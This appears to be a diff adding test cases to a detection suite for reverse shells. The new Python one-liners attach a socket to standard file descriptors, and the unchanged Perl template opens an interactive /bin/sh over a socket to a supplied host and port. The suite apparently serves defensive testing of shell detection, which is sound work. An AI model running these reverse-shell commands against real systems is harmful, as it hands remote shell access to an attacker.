@@ -58,6 +58,26 @@ describe.runIf(tier.run)("kernel: TRC-101 on real reverse shells", () => {
       names: ["python3"],
     },
     {
+      name: "python os.dup onto a closed fd 0",
+      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os;s=socket.create_connection(("${h}",${p}));os.close(0);os.dup(s.fileno())'`,
+      names: ["python3"],
+    },
+    {
+      name: "python os.dup2(..., inheritable=False) (dup3)",
+      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os;s=socket.create_connection(("${h}",${p}));os.dup2(s.fileno(),1,inheritable=False)'`,
+      names: ["python3"],
+    },
+    {
+      name: "python fcntl(F_DUPFD)",
+      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os,fcntl;s=socket.create_connection(("${h}",${p}));os.close(2);fcntl.fcntl(s.fileno(),fcntl.F_DUPFD,0)'`,
+      names: ["python3"],
+    },
+    {
+      name: "a process that closes fd 0 and connects a socket there",
+      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os;os.close(0);s=socket.socket();assert s.fileno()==0;s.connect(("${h}",${p}))'`,
+      names: ["python3"],
+    },
+    {
       name: "perl open(STDIN, >&S)",
       cmd: (h, p) => `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${p},inet_aton("${h}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`,
       names: ["perl"],
